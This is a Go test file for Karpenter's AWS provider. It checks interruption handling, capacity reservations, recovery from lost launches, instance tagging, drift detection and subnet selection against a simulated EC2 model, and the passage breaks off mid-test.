package aws

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/google/go-cmp/cmp"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	awsv1 "karpenter.sh/karpenter/api/aws/v1"
	"karpenter.sh/karpenter/api/condition"
	v1 "karpenter.sh/karpenter/api/karpenter/v1"
	"karpenter.sh/karpenter/cloud"
	"karpenter.sh/karpenter/cloud/cloudtest"
	"karpenter.sh/karpenter/internal/aws/ami"
	"karpenter.sh/karpenter/internal/aws/interrupt"
	"karpenter.sh/karpenter/internal/aws/launch"
	"karpenter.sh/karpenter/internal/aws/shortage"
	"karpenter.sh/karpenter/internal/observe/telemetry"
	"karpenter.sh/karpenter/internal/testing/awsmodel"
)

// inWorld runs a test in a bubble, in which hours pass at once.
func inWorld(t *testing.T, cfg awsmodel.Config, edit func(*Settings), test func(t *testing.T, w *world)) {
	t.Helper()
	synctest.Test(t, func(t *testing.T) {
		if cfg.Timing == (awsmodel.Timing{}) {
			cfg.Timing = awsmodel.Timing{Pending: 5 * time.Second, Boot: 20 * time.Second, ShuttingDown: 15 * time.Second, Forget: time.Hour, SpotNotice: 2 * time.Minute}
		}
		test(t, newWorld(t, cfg, edit))
	})
}

// create writes a claim and launches it, as the claim loop would.
func (w *world) create(t *testing.T, claim *v1.NodeClaim) (*v1.NodeClaim, cloud.Machine) {
	t.Helper()
	claim = claim.DeepCopy()
	claim.Finalizers = []string{v1.TerminationFinalizer}
	if err := w.kube.Create(t.Context(), claim); err != nil {
		t.Fatal(err)
	}
	m, err := w.provider.Launch(t.Context(), claim)
	if err != nil {
		t.Fatal(err)
	}
	maps.Copy(claim.Labels, m.Labels)
	if claim.Annotations == nil {
		claim.Annotations = map[string]string{}
	}
	maps.Copy(claim.Annotations, m.Annotations)
	if err := w.kube.Update(t.Context(), claim); err != nil {
		t.Fatal(err)
	}
	claim.Status.ProviderID, claim.Status.ImageID, claim.Status.NodeName = m.ProviderID, m.ImageID, "node-of-"+claim.Name
	condition.SetTrue(claim, v1.ConditionTypeLaunched, time.Now())
	if err := w.kube.Status().Update(t.Context(), claim); err != nil {
		t.Fatal(err)
	}
	node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: claim.Status.NodeName, Labels: map[string]string{v1.NodeRegisteredLabelKey: "true"}}}
	node.Spec.ProviderID = m.ProviderID
	if err := w.kube.Create(t.Context(), node); err != nil {
		t.Fatal(err)
	}
	synctest.Wait() // the mirrors have seen it
	return claim, m
}

func (w *world) claim(t *testing.T, name string) *v1.NodeClaim {
	t.Helper()
	claim := &v1.NodeClaim{}
	if err := w.kube.Get(t.Context(), client.ObjectKey{Name: name}, claim); err != nil {
		t.Fatal(err)
	}
	return claim
}

func spotClaim(name string) *v1.NodeClaim {
	claim := newClaim(name)
	claim.Spec.Requirements[2].Values = []string{"spot"}
	return claim
}

func TestSpotInterruption(t *testing.T) {
	inWorld(t, awsmodel.Config{}, func(s *Settings) { s.InterruptionQueue = "demo" }, func(t *testing.T, w *world) {
		claim, m := w.create(t, spotClaim("a"))
		other, _ := w.create(t, spotClaim("b"))
		time.Sleep(time.Minute)
		if err := w.cloud.Interrupt(instanceID(m.ProviderID)); err != nil {
			t.Fatal(err)
		}
		begun := time.Now()
		time.Sleep(2 * time.Second)
		now := w.claim(t, claim.Name)
		if now.DeletionTimestamp == nil {
			t.Fatal("two seconds after the notice the claim is not being deleted")
		}
		at, err := time.Parse(time.RFC3339, now.Annotations[v1.EvictAfterAnnotationKey])
		if err != nil || at.Sub(begun) > 45*time.Second || at.Sub(begun) < 42*time.Second {
			t.Errorf("evictions may begin %v after the notice, want about 45 s; %v", at.Sub(begun), err)
		}
		if w.claim(t, other.Name).DeletionTimestamp != nil {
			t.Error("a claim that was not interrupted is being deleted")
		}
		if !w.provider.market.stock.Out(shortage.Pool{CapacityType: "spot", InstanceType: m.InstanceType, Zone: m.Zone}) {
			t.Error("the pool of the interrupted machine still counts as available")
		}
		for _, object := range []string{claim.Name, claim.Status.NodeName} {
			if !w.events.has(telemetry.SpotInterrupted, object) || !w.events.has(telemetry.TerminatingOnInterruption, object) {
				t.Errorf("%s has no events about its interruption", object)
			}
		}
	})
}

func TestOtherMessages(t *testing.T) {
	for name, tc := range map[string]struct {
		send    func(*awsmodel.Cloud, string) error
		deleted bool
		forced  bool
		reason  telemetry.Reason
		within  time.Duration
	}{
		"a rebalance recommendation is only told": {
			func(c *awsmodel.Cloud, id string) error { return c.Rebalance(id) }, false, false, telemetry.SpotRebalanceRecommendation, 5 * time.Second},
		"a machine that somebody stops is replaced": {
			func(c *awsmodel.Cloud, id string) error { return c.Kill(id) }, true, false, telemetry.InstanceTerminating, 30 * time.Second},
		"scheduled maintenance is a graceful end": {
			func(c *awsmodel.Cloud, id string) error {
				return c.Schedule(id, "instance-retirement", time.Now().Add(24*time.Hour))
			}, true, false, telemetry.InstanceUnhealthy, 2 * time.Minute},
		"a broken host is a forceful end, found without any message": {
			func(c *awsmodel.Cloud, id string) error { return c.Impair(id) }, true, true, telemetry.InstanceUnhealthy, 5 * time.Minute},
	} {
		t.Run(name, func(t *testing.T) {
			inWorld(t, awsmodel.Config{}, func(s *Settings) { s.InterruptionQueue = "demo" }, func(t *testing.T, w *world) {
				claim, m := w.create(t, spotClaim("a"))
				time.Sleep(time.Minute)
				if err := tc.send(w.cloud, instanceID(m.ProviderID)); err != nil {
					t.Fatal(err)
				}
				time.Sleep(tc.within)
				now := w.claim(t, claim.Name)
				if got := now.DeletionTimestamp != nil; got != tc.deleted {
					t.Errorf("the claim is being deleted: %v, want %v", got, tc.deleted)
				}
				if got := now.Annotations[v1.NodeClaimTerminationTimestampAnnotationKey] != ""; got != tc.forced {
					t.Errorf("the end is forceful: %v, want %v", got, tc.forced)
				}
				if now.Annotations[v1.EvictAfterAnnotationKey] != "" {
					t.Error("evictions wait although this is no spot interruption")
				}
				if !w.events.has(tc.reason, claim.Name) {
					t.Errorf("there is no event %s", tc.reason)
				}
			})
		})
	}
}

func TestARebalanceRecommendationReplacesWhereTheSettingAsksForIt(t *testing.T) {
	for _, on := range []bool{false, true} {
		inWorld(t, awsmodel.Config{}, func(s *Settings) { s.InterruptionQueue, s.ReplaceOnRebalance = "demo", on }, func(t *testing.T, w *world) {
			claim, m := w.create(t, spotClaim("a"))
			time.Sleep(time.Minute)
			check(t, w.cloud.Rebalance(instanceID(m.ProviderID)))
			time.Sleep(5 * time.Second)
			reason, err := w.provider.Drifted(t.Context(), w.claim(t, claim.Name))
			if err != nil || (reason == awsv1.DriftReasonRebalance) != on {
				t.Errorf("with the setting %v the claim is drifted for %q, %v", on, reason, err)
			}
			if out := w.provider.market.stock.Out(shortage.Pool{CapacityType: "spot", InstanceType: m.InstanceType, Zone: m.Zone}); out != on {
				t.Errorf("with the setting %v the machine's pool is avoided: %v", on, out)
			}
			if w.claim(t, claim.Name).DeletionTimestamp != nil {
				t.Error("the claim is deleted before its replacement is there")
			}
		})
	}
}

// One machine of an interruptible reservation is taken back. The others stay, the count of the reservation stays true, and the next
// machine is launched into another reservation; three minutes later this one is tried again.
func TestAReservationWhoseMachineIsInterruptedIsAvoidedForAWhile(t *testing.T) {
	inWorld(t, awsmodel.Config{}, func(s *Settings) { s.InterruptionQueue, s.ReservedCapacity = "demo", true }, func(t *testing.T, w *world) {
		reserve := func(n int32) string {
			return w.cloud.Reserve(awsmodel.Reservation{InstanceType: "m5.large", Zone: "us-east-1a", Count: n, Interruptible: true,
				Tags: map[string]string{"for": "karpenter"}})
		}
		large, small := reserve(5), reserve(2)
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) {
			s.CapacityReservationSelectorTerms = []awsv1.CapacityReservationSelectorTerm{{Tags: map[string]string{"for": "karpenter"}}}
		})
		time.Sleep(2 * time.Minute)
		launch := func(name string) (*v1.NodeClaim, cloud.Machine) {
			claim := newClaim(name)
			claim.Spec.Requirements[2].Values = []string{"reserved"}
			return w.create(t, claim)
		}
		a, m := launch("a")
		b, _ := launch("b")
		time.Sleep(time.Minute)
		left := w.provider.market.reservations.Left(large)
		check(t, w.cloud.ReservationWarning(instanceID(m.ProviderID)))
		time.Sleep(2 * time.Second)
		if w.claim(t, a.Name).DeletionTimestamp == nil || w.claim(t, b.Name).DeletionTimestamp != nil {
			t.Error("want the interrupted claim deleted, and the other one of the reservation kept")
		}
		if got := w.provider.market.reservations.Left(large); got != left || left != 3 {
			t.Errorf("%d places are left in the reservation, %d before the interruption; want 3", got, left)
		}
		if c, _ := launch("c"); c.Labels[awsv1.LabelCapacityReservationID] != small {
			t.Errorf("the next machine is of reservation %s, want %s", c.Labels[awsv1.LabelCapacityReservationID], small)
		}
		time.Sleep(shortage.Life)
		if d, _ := launch("d"); d.Labels[awsv1.LabelCapacityReservationID] != large {
			t.Errorf("three minutes later a machine is of reservation %s, want %s", d.Labels[awsv1.LabelCapacityReservationID], large)
		}
	})
}

// A machine that is gone gives its place back once, however often it is asked for: until the next listing nothing else corrects the count.
func TestAMachineThatIsGoneGivesItsPlaceBackOnce(t *testing.T) {
	inWorld(t, awsmodel.Config{}, func(s *Settings) { s.ReservedCapacity = true }, func(t *testing.T, w *world) {
		id := w.cloud.Reserve(awsmodel.Reservation{InstanceType: "m5.large", Zone: "us-east-1a", Count: 2, Tags: map[string]string{"for": "karpenter"}})
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) {
			s.CapacityReservationSelectorTerms = []awsv1.CapacityReservationSelectorTerm{{Tags: map[string]string{"for": "karpenter"}}}
		})
		time.Sleep(2 * time.Minute)
		claim := newClaim("a")
		claim.Spec.Requirements[2].Values = []string{"reserved"}
		_, m := w.create(t, claim)
		check(t, w.provider.Terminate(t.Context(), m.ProviderID))
		time.Sleep(20 * time.Second) // it is gone then, and shown as such
		left := w.provider.market.reservations.Left(id)
		for range 3 {
			if err := w.provider.Terminate(t.Context(), m.ProviderID); !errors.Is(err, cloud.ErrNotFound) {
				t.Fatalf("Terminate = %v, want that the machine is gone", err)
			}
		}
		if got := w.provider.market.reservations.Left(id); got != left+1 {
			t.Errorf("%d places are left, %d before; want one more", got, left)
		}
	})
}

// A message says when it was sent; nobody can make a machine wait by saying that it was sent next year.
func TestTimesOfMessages(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		now := time.Now()
		for name, tc := range map[string]struct{ sent, want time.Time }{
			"just now":     {now, now.Add(evictAfter)},
			"a minute ago": {now.Add(-time.Minute), now.Add(evictAfter - time.Minute)},
			"next year":    {now.AddDate(1, 0, 0), now.Add(evictAfter)},
			"never":        {time.Time{}, now.Add(evictAfter)},
		} {
			got := deadline(&v1.NodeClaim{}, interrupt.Message{Kind: interrupt.SpotInterrupted, Time: tc.sent})[v1.EvictAfterAnnotationKey]
			if want := tc.want.UTC().Format(time.RFC3339); got != want {
				t.Errorf("%s: evictions begin at %s, want %s", name, got, want)
			}
		}
	})
}

// What EC2 takes back waits for its replacements; what is told in good time waits longer.
func TestHowLongInterruptedMachinesWait(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		for kind, want := range map[interrupt.Kind]time.Duration{
			interrupt.SpotInterrupted: evictAfter, interrupt.ReservationReclaimed: evictAfter, interrupt.ReservationEnding: evictEnding,
			interrupt.ScheduledChange: -1, interrupt.Stopped: -1,
		} {
			got := deadline(&v1.NodeClaim{}, interrupt.Message{Kind: kind})[v1.EvictAfterAnnotationKey]
			if want >= 0 && got != time.Now().Add(want).UTC().Format(time.RFC3339) || want < 0 && got != "" {
				t.Errorf("%s: evictions begin at %q, want in %s", kind, got, want)
			}
		}
	})
}

// An interrupted claim may be gone, and another one have its name, when the message is acted upon.
func TestAnInterruptionDeletesTheClaimThatItIsAbout(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		claim, _ := w.create(t, spotClaim("a"))
		var asked client.DeleteOptions
		w.provider.env.in.Kube = interceptor.NewClient(w.kube, interceptor.Funcs{
			Delete: func(_ context.Context, _ client.WithWatch, _ client.Object, options ...client.DeleteOption) error {
				asked.ApplyOptions(options)
				return nil
			},
		})
		check(t, w.provider.machines.interruptClaim(t.Context(), claim, interrupt.Message{Kind: interrupt.Stopped}))
		if asked.Preconditions == nil || asked.Preconditions.UID == nil || *asked.Preconditions.UID != claim.UID {
			t.Errorf("the claim is deleted under %v, want its UID", asked.Preconditions)
		}
	})
}

// What EC2 once said is gone stays gone, whatever an answer about an earlier time says.
func TestAMachineThatIsGoneDoesNotComeBack(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		_, m := w.create(t, newClaim("a"))
		time.Sleep(2 * invisible)
		w.provider.machines.launches.ended(m.ProviderID) // while the model, like a replica of EC2 that lags behind, still shows it
		if _, err := w.provider.Get(t.Context(), m.ProviderID); !errors.Is(err, cloud.ErrNotFound) {
			t.Errorf("Get = %v, want that it is gone", err)
		}
		if err := w.provider.Terminate(t.Context(), m.ProviderID); !errors.Is(err, cloud.ErrNotFound) {
			t.Errorf("Terminate = %v, want that it is gone", err)
		}
	})
}

// A launch whose answer was lost left a machine. The class changed since, so that the same call cannot be made again: the machine is
// looked for.
func TestALostLaunchIsFoundThoughTheClassChanged(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		w.faults(t, func(f *awsmodel.Faults) { f.LostAnswers, f.LostAnswersOf = 1, []string{"ec2:CreateFleet"} })
		claim := newClaim("a")
		if _, err := w.provider.Launch(t.Context(), claim); err == nil {
			t.Fatal("a launch whose answers are all lost succeeded")
		}
		w.faults(t, func(f *awsmodel.Faults) { f.LostAnswers, f.LostAnswersOf = 0, nil })
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) { s.Tags = map[string]string{"team": "y"} })
		time.Sleep(time.Minute)
		if _, err := w.provider.Launch(t.Context(), claim); err != nil {
			t.Errorf("the second launch: %v, want the machine of the first", err)
		}
		w.wantOnePerClaim(t, 1)
	})
}

// So it is where AWS did not look at the last attempts of the launch, because they were too many: that says nothing about the first ones.
func TestALostLaunchIsFoundThoughItsLastAttemptsWereThrottled(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		_, err := w.provider.Launch(t.Context(), newClaim("before"))
		check(t, err)
		time.Sleep(2 * time.Minute) // then a process takes new claims for its own
		w.faults(t, func(f *awsmodel.Faults) { f.LostAnswers, f.LostAnswersOf = 1, []string{"ec2:CreateFleet"} })
		time.AfterFunc(2*time.Second, func() {
			w.faults(t, func(f *awsmodel.Faults) {
				f.LostAnswers, f.LostAnswersOf = 0, nil
				f.Fail = map[string]awsmodel.Failure{"ec2:CreateFleet": {Code: "RequestLimitExceeded", Message: "Request limit exceeded.", Status: 503, Share: 1}}
			})
		})
		claim := newClaim("a")
		claim.CreationTimestamp = metav1.Now()
		if _, err := w.provider.Launch(t.Context(), claim); err == nil || !strings.Contains(err.Error(), "RequestLimitExceeded") {
			t.Fatalf("a launch that was throttled in the end: %v", err)
		}
		if n := len(w.cloud.Alive()); n != 2 {
			t.Fatalf("%d machines run, want that of the claim before, and the one whose launch got no answer", n)
		}
		w.faults(t, func(f *awsmodel.Faults) { f.Fail = nil })
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) { s.Tags = map[string]string{"team": "y"} })
		time.Sleep(time.Minute)
		if _, err := w.provider.Launch(t.Context(), claim); err != nil {
			t.Errorf("the second launch: %v, want the machine of the first", err)
		}
		w.wantOnePerClaim(t, 2)
	})
}

func TestMessagesThatMeanNothingAreDropped(t *testing.T) {
	inWorld(t, awsmodel.Config{}, func(s *Settings) { s.InterruptionQueue = "demo" }, func(t *testing.T, w *world) {
		w.cloud.SendRaw("this is no event")
		w.cloud.SendRaw(`{"version":"0","source":"aws.ec2","detail-type":"EC2 Spot Instance Interruption Warning","detail":{"instance-id":"i-0000"}}`)
		time.Sleep(5 * time.Second)
		if got := w.cloud.Calls()["sqs:DeleteMessage"]; got != 2 {
			t.Errorf("%d messages were deleted, want 2", got)
		}
	})
}

func TestWithoutAQueueSQSIsNotCalled(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		time.Sleep(10 * time.Minute)
		for op, n := range w.cloud.Calls() {
			if strings.HasPrefix(op, "sqs:") && n > 0 {
				t.Errorf("%s was called %d times", op, n)
			}
		}
		if w.cloud.Calls()["ec2:DescribeInstanceStatus"] == 0 {
			t.Error("nobody asks for broken machines")
		}
	})
}

func TestTagsAfterRegistration(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		claim, m := w.create(t, newClaim("a"))
		time.Sleep(5 * time.Second)
		got := w.machineTags(t, m.ProviderID)
		want := map[string]string{
			"Name": claim.Status.NodeName, awsv1.TagNodeClaim: "a", awsv1.TagClusterName: "demo", awsv1.TagNodePool: "default",
			awsv1.TagNodeClass: "default", awsv1.TagClusterPrefix + "demo": "owned", "team": "x",
		}
		for key, value := range want {
			if got[key] != value {
				t.Errorf("tag %s = %q, want %q", key, got[key], value)
			}
		}
		if w.claim(t, "a").Annotations[awsv1.AnnotationInstanceTagged] != "true" {
			t.Error("the claim does not say that its machine is tagged")
		}
		before := w.cloud.Calls()["ec2:CreateTags"]
		time.Sleep(time.Minute)
		if after := w.cloud.Calls()["ec2:CreateTags"]; after != before {
			t.Errorf("a tagged machine was tagged %d times more", after-before)
		}
	})
}

func TestMissingTags(t *testing.T) {
	claim := newClaim("a")
	claim.Status.NodeName = "node-1"
	name, of, cluster := awsv1.TagName, awsv1.TagNodeClaim, awsv1.TagClusterName
	for _, tc := range []struct {
		has  map[string]string
		want map[string]string
	}{
		{nil, map[string]string{name: "node-1", of: "a", cluster: "demo"}},
		{map[string]string{name: "mine"}, map[string]string{of: "a", cluster: "demo"}}, // the user's name stays
		{map[string]string{of: "a", cluster: "demo"}, map[string]string{name: "node-1"}},
		{map[string]string{name: "", of: "other", cluster: "other"}, map[string]string{}},
	} {
		if got := missingTags(tc.has, claim, "demo"); !maps.Equal(got, tc.want) {
			t.Errorf("a machine with %v lacks %v, want %v", tc.has, got, tc.want)
		}
	}
}

// A machine that runs outside of any reservation is not called reserved, neither by its claim nor by its node.
func TestDemotion(t *testing.T) {
	reserve := func(o client.Object) {
		for key, value := range map[string]string{
			v1.CapacityTypeLabelKey: v1.CapacityTypeReserved, awsv1.LabelCapacityReservationID: "cr-1",
			awsv1.LabelCapacityReservationType: "default", awsv1.LabelCapacityReservationInterruptible: "false",
		} {
			o.GetLabels()[key] = value
		}
	}
	for name, tc := range map[string]struct {
		edit          func(claim *v1.NodeClaim, node *corev1.Node)
		claim, node   bool // are called reserved afterwards
		nodeUntouched bool
	}{
		"claim and node": {func(c *v1.NodeClaim, n *corev1.Node) { reserve(c); reserve(n) }, false, false, false},
		"the node alone": {func(_ *v1.NodeClaim, n *corev1.Node) { reserve(n) }, false, false, false},
		"a node that is not registered": {func(c *v1.NodeClaim, n *corev1.Node) {
			reserve(c)
			reserve(n)
			delete(n.Labels, v1.NodeRegisteredLabelKey)
		}, false, true, false},
		"neither": {func(*v1.NodeClaim, *corev1.Node) {}, false, false, true},
	} {
		t.Run(name, func(t *testing.T) {
			inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
				claim, _ := w.create(t, newClaim("a"))
				time.Sleep(time.Minute)
				node := &corev1.Node{}
				check(t, w.kube.Get(t.Context(), client.ObjectKey{Name: claim.Status.NodeName}, node))
				claim = w.claim(t, "a")
				tc.edit(claim, node)
				check(t, w.kube.Update(t.Context(), claim))
				check(t, w.kube.Update(t.Context(), node))
				before := node.ResourceVersion
				time.Sleep(2 * time.Minute)
				check(t, w.kube.Get(t.Context(), client.ObjectKeyFromObject(node), node))
				for what, of := range map[string]struct {
					labels map[string]string
					want   bool
				}{"claim": {w.claim(t, "a").Labels, tc.claim}, "node": {node.Labels, tc.node}} {
					_, id := of.labels[awsv1.LabelCapacityReservationID]
					_, kind := of.labels[awsv1.LabelCapacityReservationType]
					_, interruptible := of.labels[awsv1.LabelCapacityReservationInterruptible]
					reserved := of.labels[v1.CapacityTypeLabelKey] == v1.CapacityTypeReserved
					if reserved != of.want || id != of.want || kind != of.want || interruptible != of.want {
						t.Errorf("labels of the %s: %v, want it called reserved: %v", what, of.labels, of.want)
					}
				}
				if (node.ResourceVersion == before) != (tc.nodeUntouched || tc.node) {
					t.Error("the node was written for nothing, or not at all")
				}
			})
		})
	}
}

// What is written onto the claim at launch is what EC2 tells about the machine later.
func TestWhatIsKnownOfAMachine(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		claim, m := w.create(t, newClaim("a"))
		nc := w.waitReady(t, "default")
		zone := slices.IndexFunc(nc.Status.Subnets, func(s awsv1.Subnet) bool { return s.Zone == m.Zone })
		for key, want := range map[string]string{
			corev1.LabelInstanceTypeStable: m.InstanceType, corev1.LabelTopologyZone: m.Zone, awsv1.LabelTopologyZoneID: nc.Status.Subnets[zone].ZoneID,
			corev1.LabelTopologyRegion: "us-east-1", corev1.LabelArchStable: "amd64", corev1.LabelOSStable: "linux",
			v1.CapacityTypeLabelKey: "on-demand", awsv1.LabelInstanceTenancy: "default", awsv1.LabelNodeClass: "default",
		} {
			if m.Labels[key] != want {
				t.Errorf("label %s = %q, want %q", key, m.Labels[key], want)
			}
		}
		for key := range m.Labels {
			if strings.Contains(key, "reservation") || strings.Contains(key, "placement") {
				t.Errorf("a machine on demand has label %s = %q", key, m.Labels[key])
			}
		}
		if m.ProviderID != "aws:///"+m.Zone+"/"+instanceID(m.ProviderID) || m.ImageID == "" || m.Capacity.Cpu().IsZero() {
			t.Errorf("machine = %+v", m)
		}
		want := map[string]string{
			awsv1.AnnotationNodeClassHash: nc.Annotations[awsv1.AnnotationNodeClassHash], awsv1.AnnotationNodeClassHashVersion: nc.Annotations[awsv1.AnnotationNodeClassHashVersion],
			awsv1.AnnotationInstanceProfileName: nc.Status.InstanceProfile,
		}
		if !maps.Equal(m.Annotations, want) {
			t.Errorf("annotations = %v, want %v", m.Annotations, want)
		}
		time.Sleep(5 * time.Minute)
		later, err := w.provider.Get(t.Context(), m.ProviderID)
		check(t, err)
		later.Annotations, later.Created = m.Annotations, m.Created
		later.Labels = maps.Clone(later.Labels)
		delete(later.Labels, v1.NodePoolLabelKey) // from the machine's tag; the claim has it
		if d := cmp.Diff(m, later); d != "" {
			t.Errorf("the machine of %s is told otherwise later (-at launch +later):\n%s", claim.Name, d)
		}
	})
}

func (w *world) machineTags(t *testing.T, providerID string) map[string]string {
	t.Helper()
	for _, m := range w.cloud.Machines() {
		if m.ID == instanceID(providerID) {
			return m.Tags
		}
	}
	t.Fatalf("AWS has no machine %s", providerID)
	return nil
}

// Two classes that select networks of their own get machines there and nowhere else.
func TestClassesKeepTheirNetworksApart(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		want := map[string][2]string{}
		for i, team := range []string{"red", "blue"} {
			tags := map[string]string{"team": team}
			subnet := w.cloud.AddSubnet("us-east-1b", fmt.Sprintf("10.9.%d.0/24", i), tags)
			want[team] = [2]string{subnet, w.cloud.AddSecurityGroup(team, tags)}
			nc := defaultClass()
			nc.Name, nc.UID = team, cloudtest.UID("class-"+team)
			nc.Spec.SubnetSelectorTerms = []awsv1.SubnetSelectorTerm{{Tags: tags}}
			nc.Spec.SecurityGroupSelectorTerms = []awsv1.SecurityGroupSelectorTerm{{Tags: tags}}
			check(t, w.kube.Create(t.Context(), nc))
		}
		for team, net := range want {
			w.waitReady(t, team)
			claim := newClaim("of-" + team)
			claim.Spec.NodeClassRef, claim.Labels[awsv1.LabelNodeClass] = classRefTo(team), team
			_, m := w.create(t, claim)
			time.Sleep(time.Minute)
			i, err := w.provider.machines.fleet.Describe(t.Context(), instanceID(m.ProviderID))
			check(t, err)
			if *i.SubnetId != net[0] || len(i.SecurityGroups) != 1 || *i.SecurityGroups[0].GroupId != net[1] {
				t.Errorf("the machine of %s is in %s with groups %v, want %v", team, *i.SubnetId, i.SecurityGroups, net)
			}
		}
	})
}

func TestDrift(t *testing.T) {
	for name, tc := range map[string]struct {
		change func(t *testing.T, w *world)
		want   cloud.DriftReason
	}{
		"nothing changed": {func(*testing.T, *world) {}, ""},
		"a newer image":   {func(t *testing.T, w *world) { check(t, w.cloud.PublishImages("20260901", "1.47.0")) }, awsv1.DriftReasonAMI},
		"a newer image, of which the class names an older version": {func(t *testing.T, w *world) {
			check(t, w.cloud.PublishImages("20260901", "1.47.0"))
			w.editClass(t, func(s *awsv1.EC2NodeClassSpec) {
				s.AMISelectorTerms, s.AMIFamily = []awsv1.AMISelectorTerm{{Alias: "al2023@v20260818"}}, nil
			})
		}, ""},
		"the class's tags": {func(t *testing.T, w *world) {
			w.editClass(t, func(s *awsv1.EC2NodeClassSpec) { s.Tags = map[string]string{"team": "y"} })
		}, awsv1.DriftReasonNodeClass},
		"another security group": {func(t *testing.T, w *world) {
			w.cloud.AddSecurityGroup("more", map[string]string{v1.Group + "/discovery": "demo"})
		}, awsv1.DriftReasonSecurityGroup},
		"another subnet": {func(t *testing.T, w *world) {
			id := w.cloud.AddSubnet("us-east-1b", "10.9.0.0/24", map[string]string{"other": "yes"})
			w.editClass(t, func(s *awsv1.EC2NodeClassSpec) { s.SubnetSelectorTerms = []awsv1.SubnetSelectorTerm{{ID: id}} })
		}, awsv1.DriftReasonSubnet},
	} {
		t.Run(name, func(t *testing.T) {
			inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
				// By name, because an alias' parameter is remembered for a day.
				w.editClass(t, func(s *awsv1.EC2NodeClassSpec) {
					s.AMISelectorTerms = []awsv1.AMISelectorTerm{{Name: "amazon-eks-node-al2023-x86_64-standard-1.36-*"}}
					s.AMIFamily = ptr(awsv1.AMIFamilyAL2023)
				})
				time.Sleep(time.Minute)
				claim, _ := w.create(t, newClaim("a"))
				time.Sleep(time.Minute)
				tc.change(t, w)
				time.Sleep(10 * time.Minute)
				got, err := w.provider.Drifted(t.Context(), w.claim(t, claim.Name))
				if err != nil || got != tc.want {
					t.Errorf("drift = %q, %v; want %q", got, err, tc.want)
				}
			})
		})
	}
}

// What an isolated VPC does not reach is never called, in hours with a machine; images and machines are found all the same.
func TestAnIsolatedVPCCallsNothingThatItCannotReach(t *testing.T) {
	for isolated, want := range map[bool]bool{false: true, true: false} {
		t.Run(fmt.Sprint(isolated), func(t *testing.T) {
			inWorld(t, awsmodel.Config{Types: []string{"m5.*"}}, func(s *Settings) { s.IsolatedVPC = isolated }, func(t *testing.T, w *world) {
				time.Sleep(time.Minute)
				w.create(t, newClaim("a"))
				time.Sleep(2 * time.Hour)
				calls := w.cloud.Calls()
				for _, action := range []string{"pricing:GetProducts", "iam:ListInstanceProfiles"} {
					if (calls[action] > 0) != want {
						t.Errorf("%s was called %d times", action, calls[action])
					}
				}
				if calls["ec2:DescribeSpotPriceHistory"] == 0 || len(w.cloud.Alive()) != 1 {
					t.Errorf("spot prices were asked for %d times, and there are %d machines", calls["ec2:DescribeSpotPriceHistory"], len(w.cloud.Alive()))
				}
			})
		})
	}
}

func check(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// A change of the class is answered with what it means, also at once: nobody asks again soon.
func TestDriftWaitsUntilTheClassIsChecked(t *testing.T) {
	for name, tc := range map[string]struct {
		edit func(*awsv1.EC2NodeClassSpec)
		want cloud.DriftReason
	}{
		"an older image": {func(s *awsv1.EC2NodeClassSpec) {
			s.AMISelectorTerms = []awsv1.AMISelectorTerm{{Alias: "al2023@v20260715"}}
		}, awsv1.DriftReasonAMI},
		"other tags": {func(s *awsv1.EC2NodeClassSpec) { s.Tags = map[string]string{"team": "y"} }, awsv1.DriftReasonNodeClass},
	} {
		t.Run(name, func(t *testing.T) {
			inWorld(t, awsmodel.Config{Faults: awsmodel.Faults{LatencyMillis: 300}}, nil, func(t *testing.T, w *world) {
				claim, _ := w.create(t, newClaim("a"))
				time.Sleep(time.Minute)
				w.editClass(t, tc.edit)
				synctest.Wait() // the mirror has seen it, AWS has not answered yet
				got, err := w.provider.Drifted(t.Context(), w.claim(t, claim.Name))
				if err != nil || got != tc.want {
					t.Errorf("drift = %q, %v; want %q", got, err, tc.want)
				}
			})
		})
	}
}

// editClass changes the class as a user would: the API server counts generations.
func (w *world) editClass(t *testing.T, edit func(*awsv1.EC2NodeClassSpec)) {
	t.Helper()
	nc := &awsv1.EC2NodeClass{}
	check(t, w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, nc))
	edit(&nc.Spec)
	nc.Generation++
	check(t, w.kube.Update(t.Context(), nc))
}

// The cheapest machine for any architecture is of no use to a class whose images are all for another.
func TestOnlyWhatHasAnImageIsLaunched(t *testing.T) {
	inWorld(t, awsmodel.Config{Types: []string{"t3.*", "m6g.*"}}, nil, func(t *testing.T, w *world) {
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) {
			s.AMISelectorTerms = []awsv1.AMISelectorTerm{{Name: "amazon-eks-node-al2023-arm64-standard-1.36-*"}}
